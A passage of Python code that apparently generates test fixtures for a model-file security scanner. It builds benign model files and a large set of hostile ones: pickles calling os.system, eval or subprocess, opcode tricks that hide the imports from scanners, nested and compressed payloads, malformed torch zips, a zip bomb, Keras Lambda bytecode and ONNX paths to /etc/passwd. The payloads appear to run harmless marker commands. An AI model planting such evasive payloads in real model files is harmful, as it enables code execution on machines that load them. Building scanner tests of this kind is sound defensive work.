    sd["bn.weight"] = _Tensor(np.ones(2, np.float32))
    sd["bn.bias"] = _Tensor(np.zeros(2, np.float32))
    sd["bn.running_mean"] = _Tensor(np.zeros(2, np.float32))
    sd["bn.running_var"] = _Tensor(np.ones(2, np.float32))
    sd["bn.num_batches_tracked"] = _Tensor(np.array(7, np.int64))
    sd._metadata = collections.OrderedDict([("", {"version": 1}), ("conv", {"version": 1}), ("bn", {"version": 2})])
    write_torch_zip(d / "torch_cnn.pth", "torch_cnn", sd)
    sx.b(d / "torch_cnn.pth", "pytorch")
    write_torch_legacy(d / "torch_legacy.pt", _small_state_dict("safety-legacy"))
    sx.b(d / "torch_legacy.pt", "pytorch_legacy")
    # a training checkpoint: {"epoch", "model": state_dict, "ema": nn.Parameter, ...};
    # the Parameter pickles as torch._utils._rebuild_parameter.
    r = rng("safety-ckpt")
    ckpt = {"epoch": 3, "model": _small_state_dict("safety-ckpt-sd"),
            "ema": _Parameter(r.standard_normal((2, 4)).astype(np.float32)),
            "lr": 0.001, "best_metric": 0.875}
    p = d / "torch_checkpoint.pt"
    with zipfile.ZipFile(p, "w", zipfile.ZIP_STORED) as zf:  # same layout as write_torch_zip
        for name, data in torch_zip_records(ckpt):
            full = f"torch_checkpoint/{name}"
            zf.writestr(_torch_zip_info(zf, full, len(data)), data)
    sx.b(p, "pytorch")

    # numpy
    r = rng("safety-numpy")
    np.save(d / "weights.npy", r.standard_normal((3, 4)).astype(np.float32))
    sx.b(d / "weights.npy", "numpy")
    with frozen_clock():
        np.savez(d / "bundle.npz", W=r.standard_normal((4, 2)).astype(np.float32), steps=np.arange(3, dtype=np.int64))
    sx.b(d / "bundle.npz", "numpy")

    # plain pickles: builtins and collections only (these are the globals a
    # benign pickle legitimately has: __builtin__/builtins set, frozenset,
    # bytearray, complex, slice, list; _codecs.encode for bytes at protocol < 3;
    # collections OrderedDict/defaultdict).
    for proto in (0, 2, 4, 5):
        p = d / f"builtins_p{proto}.pkl"
        p.write_bytes(pickle.dumps(_benign_builtins_obj(), protocol=proto))
        sx.b(p, "pickle")

    # keras (Dense layers only), safetensors, gguf, onnx
    import keras
    from keras.src.saving import saving_lib, serialization_lib

    keras.utils.set_random_seed(SEED % 2**31)
    model = keras.Sequential(
        [keras.Input((4,), name="features"), keras.layers.Dense(3, activation="relu", name="hidden"),
         keras.layers.Dense(2, name="logits")],
        name="safety_dense",
    )
    with frozen_clock(datetime_modules=[saving_lib], stable_id_modules=[serialization_lib]):
        model.save(d / "dense.keras")
        model.save(d / "dense.h5")
    sx.b(d / "dense.keras", "keras_v3")
    sx.b(d / "dense.h5", "keras_h5")

    from safetensors.numpy import save_file

    r = rng("safety-st")
    save_file({"w": r.standard_normal((4, 4)).astype(np.float32), "b": np.zeros(4, np.float16)},
              str(d / "tiny.safetensors"), metadata={"format": "pt"})
    sx.b(d / "tiny.safetensors", "safetensors")
    gguf_llama(d / "tiny.gguf", "Safety Fixture", n_embd=8, tag="safety-gguf")
    sx.b(d / "tiny.gguf", "gguf")
    p = d / "tiny.onnx"
    p.write_bytes(_onnx_linear("safety-onnx").SerializeToString())
    sx.b(p, "onnx")


def _benign_builtins_obj():
    dd = collections.defaultdict(list)
    dd["a"].append(1)
    return {
        "version": 1,
        "name": "tiny-classifier",
        "weights": [[0.25, -0.5], [1.0, 2.0]],
        "shape": (2, 2),
        "labels": {"cat", "dog"},
        "frozen": frozenset({1, 2, 3}),
        "raw": b"\x00\x01\x02",
        "buf": bytearray(b"abc"),
        "z": complex(1.0, -2.0),
        "window": slice(0, 10, 2),
        "ordered": collections.OrderedDict([("x", 1), ("y", 2)]),
        "counts": dd,
        "big": 2**70,
        "none": None,
        "flags": [True, False],
        "text": "héllo",
    }


def _onnx_linear(tag: str, external=None):
    """A MatMul+Add graph; with `external`, W is an EXTERNAL tensor at that location."""
    from onnx import TensorProto, helper, numpy_helper

    r = rng(tag)
    W = r.standard_normal((4, 3)).astype(np.float32)
    B = np.zeros(3, np.float32)
    w_t = numpy_helper.from_array(W, "W")
    if external is not None:
        w_t = TensorProto(name="W", dims=[4, 3], data_type=TensorProto.FLOAT)
        w_t.data_location = TensorProto.EXTERNAL
        for k, v in (("location", external), ("offset", "0"), ("length", "48")):
            e = w_t.external_data.add()
            e.key, e.value = k, v
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "W"], ["xw"]), helper.make_node("Add", ["xw", "B"], ["y"])],
        "tiny_linear",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 3])],
        [w_t, numpy_helper.from_array(B, "B")],
    )
    return helper.make_model(graph, producer_name="aiscout-fixtures", producer_version="0.1.0",
                             opset_imports=[helper.make_opsetid("", 17)], ir_version=8)


# -- hostile ------------------------------------------------------------------------
def make_safety_hostile(d: Path, sx: SafetyExpected):
    import code
    import multiprocessing.util
    import runpy
    import shutil as _shutil
    import socket
    import subprocess
    import webbrowser

    H = sx.h

    def put(name: str, data: bytes) -> Path:
        p = d / name
        p.write_bytes(data)
        return p

    # 1. direct execution primitives --------------------------------------------
    for proto in (0, 2, 4):
        t = f"os_system_p{proto}"
        p = put(f"{t}.pkl", asm_pickle(_Call(_G("os", "system"), _pwn(t)), proto))
        H(p, "pickle", f"os.system via __reduce__, protocol {proto} ({'STACK_GLOBAL' if proto >= 4 else 'GLOBAL'})",
          "new", "dangerous", ["os.system"])
    t = "posix_system_p2"
    p = put(f"{t}.pkl", pickle.dumps(_Call(os.system, _pwn(t)), protocol=2))
    H(p, "pickle", "os.system pickled on Linux: GLOBAL 'posix system' (what pickle.dumps of a real __reduce__ writes)",
      "new", "dangerous", ["posix.system"])
    t = "subprocess_popen"
    p = put(f"{t}.pkl", pickle.dumps(_Call(subprocess.Popen, ["touch", SAFETY_PWN + t]), protocol=4))
    H(p, "pickle", "subprocess.Popen([...]) via __reduce__", "new", "dangerous", ["subprocess.Popen"])
    t = "builtins_eval_p2"
    p = put(f"{t}.pkl", pickle.dumps(_Call(eval, f"__import__('os').system({_pwn(t)!r})"), protocol=2))
    H(p, "pickle", "builtins.eval of a Python string; protocol 2 writes it as GLOBAL '__builtin__ eval'",
      "new", "dangerous", ["__builtin__.eval"])
    t = "builtins_exec_p4"
    p = put(f"{t}.pkl", pickle.dumps(_Call(exec, f"import os; os.system({_pwn(t)!r})"), protocol=4))
    H(p, "pickle", "builtins.exec of a Python string", "new", "dangerous", ["builtins.exec"])
    t = "builtins_import_getattr"
    expr = _Call(_Call(getattr, _Call(__import__, "os"), "system"), _pwn(t))
    p = put(f"{t}.pkl", pickle.dumps(expr, protocol=4))
    H(p, "pickle", "getattr(__import__('os'), 'system')(cmd): only builtins globals", "new", "dangerous",
      ["builtins.getattr", "builtins.__import__"])
    t = "runpy_run_code"
    p = put(f"{t}.pkl", pickle.dumps(_Call(runpy._run_code, f"import os; os.system({_pwn(t)!r})", {}), protocol=4))
    H(p, "pickle", "runpy._run_code(source, globals) executes the source", "picklescan Malicious14", "dangerous",
      ["runpy._run_code"])
    t = "webbrowser_open"
    p = put(f"{t}.pkl", pickle.dumps(_Call(webbrowser.open, f"file://{SAFETY_PWN}{t}"), protocol=4))
    H(p, "pickle", "webbrowser.open(url) starts an external program", "new", "dangerous", ["webbrowser.open"])
    t = "socket_create_connection"
    p = put(f"{t}.pkl", pickle.dumps(_Call(socket.create_connection, ("127.0.0.1", 9)), protocol=4))
    H(p, "pickle", "socket.create_connection(('127.0.0.1', 9)): network from a model file", "picklescan Malicious6",
      "dangerous", ["socket.create_connection"])
    t = "shutil_rmtree"
    p = put(f"{t}.pkl", pickle.dumps(_Call(_shutil.rmtree, f"{SAFETY_PWN}{t}-target", True), protocol=4))
    H(p, "pickle", "shutil.rmtree(path, ignore_errors=True): destructive file operation", "new", "dangerous",
      ["shutil.rmtree"])

    # 2. memo / STACK_GLOBAL confusion (raw opcodes) ---------------------------
    P, S = pickle, _sbu
    t = "memo_binput_memoize_mix"
    # MEMOIZE stores at len(memo), so after BINPUT 1 it overwrites key 1; a
    # scanner that numbers MEMOIZE by counting them resolves 'system.OrderedDict'.
    data = (P.PROTO + b"\x04"
            + S("collections") + P.BINPUT + b"\x01" + P.POP
            + S("os") + P.MEMOIZE + P.POP                      # memo[1] = 'os'
            + S("OrderedDict") + P.BINPUT + b"\x02" + P.POP
            + S("system") + P.MEMOIZE + P.POP                  # memo[2] = 'system'
            + P.BINGET + b"\x01" + P.LONG_BINGET + struct.pack("<I", 2) + P.STACK_GLOBAL
            + S(_pwn(t)) + P.TUPLE1 + P.REDUCE + P.STOP)
    p = put(f"{t}.pkl", data)
    H(p, "pickle", "STACK_GLOBAL operands from BINGET/LONG_BINGET; MEMOIZE after BINPUT overwrites keys 1 and 2 "
      "(decoys 'collections'/'OrderedDict')", "picklescan#14", "dangerous", ["os.system"])
    t = "memo_put_get_decoys_p0"
    data = b"".join([
        P.UNICODE + b"os\n", P.PUT + b"2\n", P.POP,
        P.UNICODE + b"system\n", P.PUT + b"3\n", P.POP,
        P.UNICODE + b"torch\n", P.PUT + b"0\n", P.POP,
        P.UNICODE + b"LongStorage\n", P.PUT + b"1\n", P.POP,
        P.GET + b"2\n", P.GET + b"3\n", P.STACK_GLOBAL,
        P.MARK, P.UNICODE + _pwn(t).encode() + b"\n", P.TUPLE, P.REDUCE, P.STOP])
    p = put(f"{t}.pkl", data)
    H(p, "pickle", "text PUT/GET memo, the last string literals before STACK_GLOBAL are decoys 'torch LongStorage'",
      "picklescan#22", "dangerous", ["os.system"])
    t = "memo_build_setattr"
    # modelscan#85: BUILD's slot state setattr()s 'os'/'system' onto numpy.prod,
    # GLOBAL 'numpy prod.a' (protocol >= 4 resolves dotted names) fetches them,
    # PUT/GET hands them to STACK_GLOBAL. No string literal precedes it.
    data = b"".join([
        P.PROTO, b"\x04",
        P.GLOBAL, b"numpy\nprod\n",
        P.NONE, P.MARK, S("a"), S("os"), P.DICT, P.TUPLE2, P.BUILD,
        P.NONE, P.MARK, S("b"), S("system"), P.DICT, P.TUPLE2, P.BUILD,
        P.POP,
        P.GLOBAL, b"numpy\nprod.a\n", P.BINPUT, b"\x00",
        P.GLOBAL, b"numpy\nprod.b\n", P.BINPUT, b"\x01",
        P.POP, P.POP,
        P.BINGET, b"\x00", P.BINGET, b"\x01", P.STACK_GLOBAL,
        S(_pwn(t)), P.TUPLE1, P.REDUCE, P.STOP])
    p = put(f"{t}.pkl", data)
    H(p, "pickle", "BUILD setattr()s 'os'/'system' on numpy.prod; GLOBAL 'numpy prod.a'/'prod.b' + BINPUT/BINGET "
      "feed STACK_GLOBAL, so its operands are not string literals (resolves to os.system at load)",
      "modelscan#85", "dangerous", [], resolves_to="os.system")
    t = "stack_global_bytes_operand"
    data = b"".join([
        P.PROTO, b"\x04",
        S("os"), P.MEMOIZE, S("system"), P.MEMOIZE, P.STACK_GLOBAL, P.MEMOIZE,
        S(_pwn(t)), P.TUPLE1, P.REDUCE, P.POP,
        P.SHORT_BINBYTES, b"\x02os", P.MEMOIZE, P.SHORT_BINBYTES, b"\x06system", P.MEMOIZE,
        P.BINGET, b"\x03", P.BINGET, b"\x04", P.STACK_GLOBAL, P.STOP])
    p = put(f"{t}.pkl", data)
    H(p, "pickle", "os.system call, then a STACK_GLOBAL whose operands are SHORT_BINBYTES fetched from the memo "
      "(a scanner that crashes on it must not drop the os.system it already saw)", "modelscan#338 §5",
      "dangerous", ["os.system"])
    t = "stack_global_int_operand"
    data = b"".join([
        P.PROTO, b"\x04",
        P.GLOBAL, b"os\nsystem\n", S(_pwn(t)), P.TUPLE1, P.REDUCE, P.POP,
        P.BININT, struct.pack("<i", 42), P.MEMOIZE, S("os"), P.MEMOIZE,
        P.BINGET, b"\x00", P.BINGET, b"\x01", P.STACK_GLOBAL, P.BININT1, b"\x42", P.STOP])
    p = put(f"{t}.pkl", data)
    H(p, "pickle", "os.system call, then STACK_GLOBAL with an int module operand from the memo (type confusion)",
      "modelscan#338 §5 / picklescan type-confusion", "dangerous", ["os.system"])
    t = "stack_global_missing_memo"
    data = b"".join([
        P.PROTO, b"\x04",
        S("os"), P.MEMOIZE,
        P.BINGET, b"\x00", P.BINGET, b"\x07", P.STACK_GLOBAL,
        S(_pwn(t)), P.TUPLE1, P.REDUCE, P.STOP])
    p = put(f"{t}.pkl", data)
    H(p, "pickle", "STACK_GLOBAL operand from a memo key that was never stored (malformed; must not crash scanners)",
      "picklescan keyerror-exploit", "suspicious", [])
    t = "binstring_names_p1"
    data = b"".join([
        P.PROTO, b"\x04",
        P.SHORT_BINSTRING, b"\x02os", P.BINSTRING, struct.pack("<i", 6), b"system", P.STACK_GLOBAL,
        P.SHORT_BINSTRING, _u8(len(_pwn(t))), _pwn(t).encode(), P.TUPLE1, P.REDUCE, P.STOP])
    p = put(f"{t}.pkl", data)
    H(p, "pickle", "STACK_GLOBAL names in protocol-1 SHORT_BINSTRING/BINSTRING (decoded as str by the unpickler)",
      "GHSA-9gvj-pp9x-gcfr (variant)", "dangerous", ["os.system"])

    # 3. primitives missing from denylists -------------------------------------
    def prim(t, fn, *args, technique, source, imports, proto=4, verdict="dangerous"):
        p = put(f"{t}.pkl", asm_pickle(_Call(fn, *args), proto))
        H(p, "pickle", technique, source, verdict, imports)

    t = "torch_collect_env_run"
    prim(t, _G("torch.utils.collect_env", "run"), _pwn(t), proto=2,
         technique="torch.utils.collect_env.run(cmd) runs a shell command (GLOBAL, torch need not be installed to write it)",
         source="modelscan#338 / GHSA-f745-w6jp-hpxx", imports=["torch.utils.collect_env.run"])
    t = "multiprocessing_spawnv_passfds"
    prim(t, multiprocessing.util.spawnv_passfds, b"/bin/sh", ("/bin/sh", "-c", _pwn(t)), (),
         technique="multiprocessing.util.spawnv_passfds(path, argv, fds) forks and execs",
         source="modelscan#338", imports=["multiprocessing.util.spawnv_passfds"])
    t = "mlflow_run_entry_point"
    prim(t, _G("mlflow.projects.backend.local", "_run_entry_point"), _pwn(t), "/tmp", "0", "0",
         technique="mlflow.projects.backend.local._run_entry_point(command, work_dir, experiment_id, run_id)",
         source="modelscan#338", imports=["mlflow.projects.backend.local._run_entry_point"])
    t = "pandas_read_csv_url"
    prim(t, _G("pandas.io.parsers.readers", "read_csv"), "http://127.0.0.1:9/aiscout-pwned.csv",
         technique="pandas read_csv of a URL (on 127.0.0.1): network fetch / exfiltration from a model file",
         source="modelscan#338", imports=["pandas.io.parsers.readers.read_csv"], verdict="suspicious")
    t = "numpy_runstring"
    prim(t, _G("numpy.testing._private.utils", "runstring"), f"import os; os.system({_pwn(t)!r})", {},
         technique="numpy.testing._private.utils.runstring(source, dict) execs the source",
         source="picklescan Malicious22 / modelscan#338", imports=["numpy.testing._private.utils.runstring"])
    t = "importlib_import_module"
    prim(t, _Call(getattr, _Call(_G("importlib", "import_module"), "os"), "system"), _pwn(t),
         technique="getattr(importlib.import_module('os'), 'system')(cmd)", source="modelscan#338",
         imports=["importlib.import_module", "builtins.getattr"])
    t = "mailcap_findmatch"
    prim(t, _G("mailcap", "findmatch"), {"text/plain": [{"view": "true", "test": _pwn(t)}]}, "text/plain",
         technique="mailcap.findmatch(caps, type) runs the entry's 'test' command with os.system",
         source="modelscan#338", imports=["mailcap.findmatch"])
    t = "code_interactive_interpreter"
    prim(t, _G("code", "InteractiveInterpreter.runcode"), _Call(_G("code", "InteractiveInterpreter")),
         f"import os; os.system({_pwn(t)!r})",
         technique="code.InteractiveInterpreter.runcode(InteractiveInterpreter(), source) execs the source "
                   "(dotted STACK_GLOBAL name)",
         source="GHSA-cj3c-v495-4xqh", imports=["code.InteractiveInterpreter.runcode"])
    t = "pydoc_pipepager"
    prim(t, _G("pydoc", "pipepager"), "", _pwn(t),
         technique="pydoc.pipepager(text, cmd) runs cmd in a shell", source="picklescan Malicious18",
         imports=["pydoc.pipepager"])
    t = "operator_methodcaller"
    prim(t, _Call(_G("operator", "methodcaller"), "system", _pwn(t)), _Call(_G("importlib", "import_module"), "os"),
         technique="operator.methodcaller('system', cmd)(importlib.import_module('os'))",
         source="GHSA-84r2-jw7c-4r5q (variant)", imports=["operator.methodcaller", "importlib.import_module"])
    t = "functools_partial_os_system"
    prim(t, _Call(_G("functools", "partial"), _G("os", "system"), _pwn(t)),
         technique="functools.partial(os.system, cmd)() called with no arguments",
         source="picklescan Malicious19 (variant)", imports=["functools.partial", "os.system"])
    t = "types_function_from_code"
    co = compile(f"__import__('os').system({_pwn(t)!r})", "<aiscout-fixture>", "exec")
    fields = (co.co_argcount, co.co_posonlyargcount, co.co_kwonlyargcount, co.co_nlocals, co.co_stacksize,
              co.co_flags, co.co_code, co.co_consts, co.co_names, co.co_varnames, co.co_filename, co.co_name,
              co.co_qualname, co.co_firstlineno, co.co_linetable, co.co_exceptiontable, co.co_freevars,
              co.co_cellvars)
    prim(t, _Call(_G("types", "FunctionType"), _Call(_G("types", "CodeType"), *fields), {}),
         technique="cloudpickle-style function rebuild: types.FunctionType(types.CodeType(<CPython 3.11 bytecode>), {})()",
         source="new", imports=["types.CodeType", "types.FunctionType"])
    t = "zlib_packed_payload"
    inner = asm_pickle(_Call(_G("os", "system"), _pwn(t)), 2)
    prim(t, _G("pickle", "loads"), _Call(_G("zlib", "decompress"), zlib.compress(inner, 9)),
         technique="pickle.loads(zlib.decompress(<bytes>)): the os.system pickle is only visible after inflating",
         source="modelscan#338", imports=["pickle.loads", "zlib.decompress"])

    # 4. nested pickles ---------------------------------------------------------
    for t, mod in (("nested_pickle_loads", "pickle"), ("nested_cpickle_loads", "_pickle")):
        inner = asm_pickle({"model_type": "linear", "hidden": 16, "labels": [f"class_{i}" for i in range(24)],
                            "init": _Call(_G("os", "system"), _pwn(t))}, 4)
        assert len(inner) > 255  # so it is written as BINBYTES
        outer = {"weights": [[0.1, 0.2], [0.3, 0.4]], "bias": [0.0, 0.0], "config": _Call(_G(mod, "loads"), inner)}
        p = put(f"{t}.pkl", asm_pickle(outer, 4))
        H(p, "pickle", f"benign-looking dict whose 'config' is {mod}.loads(BINBYTES <pickle calling os.system>)",
          "modelscan#267", "dangerous", [f"{mod}.loads"], nested_imports=["os.system"])

    # 5. concatenated pickles ---------------------------------------------------
    t = "concatenated_second_hostile"
    p = put(f"{t}.pkl", pickle.dumps({"weights": [0.5, -0.5], "version": 1}, protocol=2)
            + asm_pickle(_Call(_G("os", "system"), _pwn(t)), 2))
    H(p, "pickle", "two pickles back to back; the first is a plain dict, the second calls os.system",
      "picklescan malicious6", "dangerous", ["os.system"])

    # 6. containers -------------------------------------------------------------
    def hostile_sd(t):
        sd = _small_state_dict("safety-hostile")
        sd["_extra"] = _Call(os.system, _pwn(t))
        return sd

    t = "torch_zip_hostile"
    write_torch_zip(d / f"{t}.pt", "archive", hostile_sd(t))
    H(d / f"{t}.pt", "pytorch", "torch.save zip (root archive/) whose data.pkl holds a posix.system REDUCE next to the tensors",
      "new", "dangerous", ["posix.system"])
    t = "torch_zip_root_weights"
    write_torch_zip(d / f"{t}.pt", "weights", hostile_sd(t))
    H(d / f"{t}.pt", "pytorch", "the same with archive root 'weights/' (torch accepts any root name)",
      "new", "dangerous", ["posix.system"])

    def torch_entries(t, root="archive"):
        return [{"name": f"{root}/{n}", "data": b} for n, b in torch_zip_records(hostile_sd(t))]

    t = "torch_zip_damaged_member_first"
    ents = torch_entries(t)
    junk = {"name": "archive/.junk", "data": b"junk" * 8, "local_sig": b"PK\x03\x07"}
    ents.insert(1, junk)  # after data.pkl in the file (so it still starts with PK\x03\x04) ...
    order = [1, 0] + list(range(2, len(ents)))  # ... but first in the central directory
    p = put(f"{t}.pt", zip_bytes(ents, cd_order=order))
    H(p, "pytorch", "central directory lists 'archive/.junk' (bad local header signature) before archive/data.pkl: "
      "zipfile.open raises BadZipFile on it; torch reads data.pkl by name", "modelscan#354", "dangerous",
      ["posix.system"])
    t = "torch_zip_encrypted_flag"
    ents = torch_entries(t)
    ents[0]["flags"] = 0x1
    p = put(f"{t}.pt", zip_bytes(ents))
    H(p, "pytorch", "data.pkl has general-purpose flag bit 0 (encrypted) set in both headers but is stored in clear: "
      "zipfile refuses to open it (password required), torch ignores the flag", "GHSA-w8jq-xcqf-f792",
      "dangerous", ["posix.system"])
    t = "torch_zip_bad_crc"
    ents = torch_entries(t)
    ents[0]["crc"] = zlib.crc32(ents[0]["data"]) ^ 0xFFFFFFFF
    p = put(f"{t}.pt", zip_bytes(ents))
    H(p, "pytorch", "data.pkl's CRC-32 is wrong in both headers: zipfile raises 'Bad CRC-32' at the end of the member, "
      "torch does not check CRCs", "GHSA-7q5r-7gvp-wc82", "dangerous", ["posix.system"])
    t = "torch_zip_nonstd_member"
    recs = torch_zip_records(_small_state_dict("safety-nonstd"))
    evil = asm_pickle(_Call(_G("os", "system"), _pwn(t)), 2)
    ents = [{"name": f"archive/{n}", "data": b} for n, b in recs]
    ents.insert(3, {"name": "archive/data/evil", "data": evil})
    p = put(f"{t}.pt", zip_bytes(ents))
    H(p, "pytorch", "benign data.pkl; a hostile pickle hides in member 'archive/data/evil' (no pickle extension, "
      "loadable with torch.load(..., pickle_file='data/evil'))", "GHSA-769v-p64c-89pr", "dangerous", ["os.system"])
    t = "torch_legacy_hostile"
    p = put(f"{t}.pt", torch_legacy_bytes(hostile_sd(t)))
    H(p, "pytorch_legacy", "legacy torch.save: magic, protocol, sys_info, then a state dict with a posix.system REDUCE",
      "new", "dangerous", ["posix.system"])
    t = "torch_legacy_magic_via_eval"
    first = asm_pickle(_Call(_G("builtins", "eval"),
                             f"(__import__('os').system({_pwn(t)!r}), {MAGIC_NUMBER:#x})[1]"), 2)
    p = put(f"{t}.pt", torch_legacy_bytes(_small_state_dict("safety-legacy"), first_pickle=first))
    H(p, "pytorch_legacy", "legacy torch file whose first pickle computes the magic number with builtins.eval "
      "(and runs os.system on the way); the rest is a benign state dict", "picklescan pytorch_magic_bypass",
      "dangerous", ["builtins.eval"])

    import joblib

    for method in ("zlib", "lz4", "xz"):
        t = f"joblib_{method}_os_system"
        joblib.dump(_Call(os.system, _pwn(t)), d / f"{t}.joblib", compress=(method, 3))
        H(d / f"{t}.joblib", "joblib", f"joblib.dump(compress='{method}') of a posix.system __reduce__: the pickle is "
          "only visible after decompressing", "new", "dangerous", ["posix.system"])

    t = "npy_object_hostile"
    obj_arr = np.empty(2, dtype=object)
    obj_arr[0] = 1.5
    obj_arr[1] = _Call(os.system, _pwn(t))
    np.save(d / f"{t}.npy", obj_arr, allow_pickle=True)
    H(d / f"{t}.npy", "numpy", ".npy with dtype object: the payload is a pickle after the header (np.load(allow_pickle=True))",
      "picklescan dns_exfiltration.npy (variant)", "dangerous", ["posix.system"])
    t = "npz_object_hostile"
    obj_arr = np.empty(1, dtype=object)
    obj_arr[0] = _Call(os.system, _pwn(t))
    with frozen_clock():
        np.savez(d / f"{t}.npz", weights=np.ones((2, 2), np.float32), meta=obj_arr)
    H(d / f"{t}.npz", "numpy", ".npz with a dtype=object member meta.npy holding a posix.system pickle",
      "new", "dangerous", ["posix.system"])

    t = "archive_7z_hostile"
    inner = zip_bytes([{"name": f"model/{n}", "data": b} for n, b in torch_zip_records(hostile_sd(t))])
    p = put(f"{t}.7z", sevenzip_bytes("model.pt", inner))
    H(p, "7z", "7z archive (LZMA2, written by hand) holding model.pt, a torch zip with a posix.system data.pkl "
      "(picklescan only extracts pickle-extension members from 7z)", "new", "dangerous", ["posix.system"])

    t = "bomb"
    n = 1 << 30
    head = pickle.PROTO + b"\x04" + b"\x8e" + struct.pack("<Q", n)  # BINBYTES8 of 1 GiB
    tail = pickle.MEMOIZE + pickle.STOP
    comp = zlib.compressobj(6, zlib.DEFLATED, -15)
    chunk = bytes(1 << 20)
    parts = [comp.compress(head)]
    crc = zlib.crc32(head)
    for _ in range(n >> 20):
        parts.append(comp.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    parts.append(comp.compress(tail))
    crc = zlib.crc32(tail, crc)
    parts.append(comp.flush())
    deflated = b"".join(parts)
    usize = len(head) + n + len(tail)
    ents = [{"name": "archive/data.pkl", "data": deflated, "method": 8, "crc": crc, "usize": usize},
            {"name": "archive/byteorder", "data": b"little"}, {"name": "archive/version", "data": b"3\n"}]
    p = put(f"{t}.pt", zip_bytes(ents))
    H(p, "pytorch", f"zip bomb: archive/data.pkl deflated to {len(deflated)} bytes expands to {usize} bytes "
      "(a valid pickle: BINBYTES8 of 1 GiB of zeros)", "new", "suspicious", [])

    # 7. Keras / TensorFlow -----------------------------------------------------
    import h5py

    payload_code = _lambda_code(f"lambda x: (__import__('os').system({_pwn('keras_lambda')!r}), x)[1]")
    b64 = _keras2_func_dump(payload_code)
    r = rng("safety-keras2")
    kernel = r.standard_normal((4, 2)).astype(np.float32)
    model_config = {"class_name": "Sequential",
                    "config": {"name": "sequential", "layers": _keras2_layers([b64, None, None])}}
    p = d / "keras_lambda.h5"
    with h5py.File(p, "w", track_order=False) as f:
        # keras 2.x hdf5_format.save_model_to_hdf5 (include_optimizer=False)
        f.attrs["backend"] = "tensorflow"
        f.attrs["keras_version"] = "2.13.1"
        f.attrs["model_config"] = json.dumps(model_config).encode("utf8")
        g = f.create_group("model_weights")
        g.attrs["backend"] = "tensorflow"
        g.attrs["keras_version"] = "2.13.1"
        g.attrs["layer_names"] = np.array([b"lambda", b"dense"])
        g.create_group("lambda").attrs["weight_names"] = np.array([], dtype="S1")
        dg = g.create_group("dense")
        dg.attrs["weight_names"] = np.array([b"dense/kernel:0", b"dense/bias:0"])
        dg.create_dataset("dense/kernel:0", data=kernel, track_times=False)
        dg.create_dataset("dense/bias:0", data=np.zeros(2, np.float32), track_times=False)
    H(p, "keras_h5", "Keras 2 .h5 whose model_config has a Lambda layer: function = [base64(marshal(code)), null, null], "
      "function_type 'lambda'; loading it runs the bytecode (calls os.system)", "modelscan H5LambdaDetectScan",
      "dangerous", [])

    import keras
    from keras.src.saving import saving_lib, serialization_lib

    keras.utils.set_random_seed(SEED % 2**31)
    benign_lambda = eval(compile("lambda x: x * 2.0", "<aiscout-fixture>", "eval"))  # a constant, harmless lambda
    model = keras.Sequential([keras.Input((4,), name="features"), keras.layers.Lambda(benign_lambda, name="lambda"),
                              keras.layers.Dense(2, name="dense")], name="lambda_model")
    with tempfile.TemporaryDirectory() as td:
        tmp = Path(td) / "m.keras"
        with frozen_clock(datetime_modules=[saving_lib], stable_id_modules=[serialization_lib]):
            model.save(tmp)
        with zipfile.ZipFile(tmp) as zin:
            members = [(zi, zin.read(zi)) for zi in zin.infolist()]
    p = d / "keras_lambda.keras"
    code_v3 = _keras2_func_dump(_lambda_code(f"lambda x: (__import__('os').system({_pwn('keras_lambda_v3')!r}), x)[1]"))
    with zipfile.ZipFile(p, "w") as zout:
        for zi, data in members:
            if zi.filename == "config.json":
                cfg = json.loads(data)
                layer = next(l for l in cfg["config"]["layers"] if l["class_name"] == "Lambda")
                assert layer["config"]["function"]["class_name"] == "__lambda__"
                layer["config"]["function"]["config"]["code"] = code_v3
                data = json.dumps(cfg).encode()
            zout.writestr(zi, data)
    H(p, "keras_v3", "Keras 3 .keras written by model.save with a Lambda layer; config.json's function "
      "{'class_name': '__lambda__', 'config': {'code': base64(marshal)}} replaced by bytecode calling os.system "
      "(keras loads it only with safe_mode=False)", "modelscan KerasLambdaDetectScan", "dangerous", [])

    make_safety_savedmodels(d, sx)

    # 8. ONNX external data -----------------------------------------------------
    for t, loc in (("onnx_external_abs", "/etc/passwd"), ("onnx_external_traversal", "../../../../../../etc/passwd")):
        p = d / f"{t}.onnx"
        p.write_bytes(_onnx_linear("safety-onnx", external=loc).SerializeToString())
        H(p, "onnx", f"initializer W stored as external_data with location {loc!r} (reads a file outside the model dir)",
          "new", "suspicious", [], external_location=loc)


# -- load-time templates and configs (make_safety_load) -----------------------------
# Chat templates as Hugging Face ships them (tokenizer_config.json "chat_template").
CHATML_TEMPLATE = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>'"
    " + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
LLAMA3_TEMPLATE = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + "
    "message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}"
)
# Hermes-style tool use: namespace() for loop state, tojson.
TOOL_USE_TEMPLATE = (
    "{%- set ns = namespace(tools_text='') %}{%- for tool in tools %}{%- set ns.tools_text = ns.tools_text + "
    "(tool | tojson) + '\\n' %}{%- endfor %}{{ '<|im_start|>system\\nYou may call these tools:\\n' + ns.tools_text + "
    "'<|im_end|>\\n' }}{%- for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
    "'<|im_end|>\\n'}}{%- endfor %}{%- if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{%- endif %}"
)
SAFETY_LOAD_PATHS = (
    "benign/chat_template_chatml.gguf", "benign/chat_template_llama3.gguf", "benign/keras_config_keras_fn.keras",
    "benign/keras_config_keras_fn.h5", "hostile/chat_template_ssti.gguf", "hostile/chat_template_named_ssti.gguf",
    "hostile/keras_config_os_system.keras", "hostile/keras_config_posix_system.h5",
)


def _keras_config_with_activation(dense_keras: Path, activation) -> dict:
    """The config.json keras.Model.save wrote for benign/dense.keras, its first Dense layer's
    activation replaced (a string, or a serialized {module, class_name, config} object)."""
    with zipfile.ZipFile(dense_keras) as zf:
